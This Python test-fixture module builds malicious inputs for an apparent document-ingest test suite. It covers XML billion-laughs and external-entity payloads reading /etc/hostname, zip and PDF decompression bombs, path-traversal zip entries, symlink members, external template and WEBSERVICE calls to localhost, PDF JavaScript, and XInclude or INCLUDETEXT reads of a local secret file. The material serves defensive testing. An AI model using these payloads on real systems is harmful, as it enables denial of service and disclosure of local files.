"""Builds malicious zip packages, XML and PDF files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from tests.ingest.files import opendocument, package, portable, word, workbook

TALK = ["Anna: How did the hall begin?", "Tom: With a kettle and a table.", "Anna: Oh?", "Tom: So it was."]
PLAIN = "\n".join(TALK) + "\n"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]><lolz>&a11;</lolz>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def with_parts(content: bytes, **parts: bytes | str) -> bytes:
    """A package with parts exchanged or added; `__` stands for `/` and `___` for a dot."""
    made = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        made = {name: archive.read(name) for name in archive.namelist()}
    for name, part in parts.items():
        made[name.replace("___", ".").replace("__", "/")] = part
    return package(made)


def bomb(part: str) -> bytes:
    """A small package of which one part unpacks to far more."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<x/>")
        with archive.open(part, "w") as file:
            for _ in range(60):
                file.write(b" " * 1_000_000)
    return buffer.getvalue()


def lying() -> bytes:
    """A Word file whose table of contents says that its text has a hundred bytes."""
    return with_lies(word(TALK), "word/document.xml", size=100)


def with_lies(content: bytes, name: str, *, size: int) -> bytes:
    """The package with a table of contents that gives a wrong size for a part."""
    raw = bytearray(content)
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46 : at + 46 + length] == name.encode():
            struct.pack_into("<I", raw, at + 24, size)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    content = word(TALK)
    for level in range(depth):
        content = package({f"{level}.zip": content})
    return content


def climbing() -> bytes:
    """A Word file with parts that would be written outside any folder it is unpacked to."""
    return with_parts(word(TALK), **{"..__..__..__..__tmp__escaped___xml": "<x/>", "__etc__passwd": "x"})


def macros() -> bytes:
    """A Word file with a macro project."""
    return with_parts(
        word(TALK), word__vbaProject___bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 9
    )


def template_from_outside() -> bytes:
    """A Word file that asks for its template from another machine."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(word(TALK), word___rels__settings___xml___rels=rels)


def deep_word(depth: int) -> bytes:
    """A Word file whose paragraph lies in thousands of content controls."""
    inner = "<w:sdt><w:sdtContent>" * depth + "<w:p><w:r><w:t>Anna: So.</w:t></w:r></w:p>"
    return with_parts(word(TALK), word__document___xml=DOCUMENT % (inner + "</w:sdtContent></w:sdt>" * depth))


def deep_open(depth: int) -> bytes:
    """An OpenDocument text with sections in sections."""
    content = zipfile.ZipFile(io.BytesIO(opendocument(TALK))).read("content.xml").decode()
    body = "<text:section>" * depth + "<text:p>Anna: So.</text:p>" + "</text:section>" * depth
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content.replace("<office:text>", f"<office:text>{body}"),
        }
    )


def many_spaces() -> bytes:
    """An OpenDocument text in which a space is repeated a thousand million times, over and over."""
    content = zipfile.ZipFile(io.BytesIO(opendocument(TALK))).read("content.xml").decode()
    spaces = '<text:s text:c="999999999"/>' * 1000
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content.replace("kettle", f"kettle{spaces}"),
        }
    )


def far_cell() -> bytes:
    """A workbook of two cells: the first, and the very last that a sheet can have."""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Anna: So.</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Tom: No.</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return with_parts(workbook(Talk=[["a"]]), xl__worksheets__sheet1___xml=sheet)


def formulas() -> bytes:
    """A workbook of which a cell fetches from another machine."""
    rows = [["speaker", "text"], ["Anna", "How?"], ["Tom", '=WEBSERVICE("http://127.0.0.1:9")'], ["Anna", "Oh."]]
    return workbook(Talk=rows)


def pdf_objects(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from one."""
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(objects) + 1
    tail = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root {root} 0 R >>\n"
    return out + f"{tail}startxref\n{len(out)}\n%%EOF\n".encode()


def pdf_loop() -> bytes:
    """A PDF whose tree of pages goes round."""
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"
    )


def pdf_bomb() -> bytes:
    """A PDF of which a page's stream unpacks to far more."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(150)) + packer.flush()
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def pdf_script() -> bytes:
    """A PDF that runs JavaScript when it is opened."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return portable([TALK * 3]).replace(b"<< /Type /Catalog /Pages 2 0 R >>", catalogue)


def pdf_locked() -> bytes:
    """A PDF under a password."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(portable([TALK]))).pages:
        writer.add_page(page)
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def locked_zip() -> bytes:
    """A Word file whose parts ask for a password."""
    raw = bytearray(word(TALK))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def project(xml: str, **texts: str) -> bytes:
    """A .qdpx."""
    return package({"project.qde": xml} | {f"sources/{name}.txt": text for name, text in texts.items()})


SECRET = "heliotrope lanterns"  # stands in a file of this machine that every one of these asks for
SECRET_FILE = Path(__file__).parent / "secret.txt"
XINCLUDE = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET_FILE.as_uri()}" parse="text"/>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def including(target: str, *, outside: bool, element: str = "altChunk", **parts: bytes | str) -> bytes:
    """A Word file that asks for another document in its own text.

    Args:
        target: where the other document lies.
        outside: whether it is said to lie outside the package.
        element: how it is asked for.
        parts: further parts of the package.
    """
    original = word(TALK)
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        relations = archive.read("word/_rels/document.xml.rels").decode()
        text = archive.read("word/document.xml").decode()
    mode = ' TargetMode="External"' if outside else ""
    kind = "aFChunk" if element == "altChunk" else "subDocument"
    relation = f'<Relationship Id="rId99" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
    chunk = f'<w:{element} xmlns:r="{_OFFICE}" r:id="rId99"/>'
    return with_parts(
        original,
        word___rels__document___xml___rels=relations.replace("</Relationships>", f"{relation}</Relationships>"),
        word__document___xml=text.replace("<w:sectPr", f"{chunk}<w:sectPr", 1),
        **parts,
    )


def field_including() -> bytes:
    """A Word file with a field that includes a file of this machine."""
    run = "<w:r><w:{}>{}</w:{}></w:r>"
    code = run.format("instrText", f'INCLUDETEXT "{SECRET_FILE.as_posix()}"', "instrText")
    with zipfile.ZipFile(io.BytesIO(word(TALK))) as archive:
        text = archive.read("word/document.xml").decode()
    return with_parts(word(TALK), word__document___xml=text.replace("<w:sectPr", f"<w:p>{code}</w:p><w:sectPr", 1))


def xincluding_word(part: str) -> bytes:
    """A Word file with an XInclude in a part."""
    name = part.replace("___", ".").replace("__", "/")
    with zipfile.ZipFile(io.BytesIO(word(TALK))) as archive:
        text = archive.read(name).decode()
    at = "<w:sectPr" if "<w:sectPr" in text else "</w:styles>"
    paragraph = f"<w:p><w:r><w:t>{XINCLUDE}</w:t></w:r></w:p>" if at == "<w:sectPr" else XINCLUDE
    return with_parts(word(TALK), **{part: text.replace(at, paragraph + at, 1)})


def changed_open(old: str, new: str) -> bytes:
    """An OpenDocument text of which the XML is changed at one place."""
    with zipfile.ZipFile(io.BytesIO(opendocument(TALK))) as archive:
        content = archive.read("content.xml").decode()
    return package(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content.replace(old, new, 1)}
    )


def linked_open() -> bytes:
    """An OpenDocument text with a section that stands in a file of this machine."""
    section = (
        '<text:section text:name="a"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xlink:href="{SECRET_FILE.as_uri()}"/></text:section></office:text>'
    )
    return changed_open("</office:text>", section)


def xincluding_workbook() -> bytes:
    """A workbook of a conversation, of which one cell is an XInclude."""
    content = workbook(Talk=[["speaker", "text"], ["Anna", "How?"], ["Tom", "kettle"], ["Anna", "Oh."]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode()
    return with_parts(content, xl__sharedStrings___xml=strings.replace("kettle", XINCLUDE))


def pdf_file_outside() -> bytes:
    """A PDF of which a page's stream lies in a file of this machine."""
    place = SECRET_FILE.as_posix().encode()
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % place,
    )


def linked_zip(content: bytes, name: str, target: str) -> bytes:
    """A package of which one part is a symbolic link, as zip programs for Unix store it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as archive, zipfile.ZipFile(buffer, "w") as made:
        for member in archive.infolist():
            if member.filename != name:
                made.writestr(member, archive.read(member))
        link = zipfile.ZipInfo(name)
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, target)
    return buffer.getvalue()


def project_of(address: str, **texts: str) -> bytes:
    """A .qdpx whose only source lies at this address."""
    return project(
        '<Project xmlns="urn:QDA-XML:project:1.0" name="p"><Users><User guid="u" name="Ann"/></Users>'
        '<CodeBook><Codes><Code guid="c" name="Kettles" isCodable="true"/></Codes></CodeBook>'
        f'<Sources><TextSource guid="a" name="a" plainTextPath="{address}"><PlainTextSelection guid="s" name="s" '
        'startPosition="0" endPosition="9"><Coding guid="k" creatingUser="u"><CodeRef targetGUID="c"/></Coding>'
        "</PlainTextSelection></TextSource></Sources></Project>",
        **texts,
    )
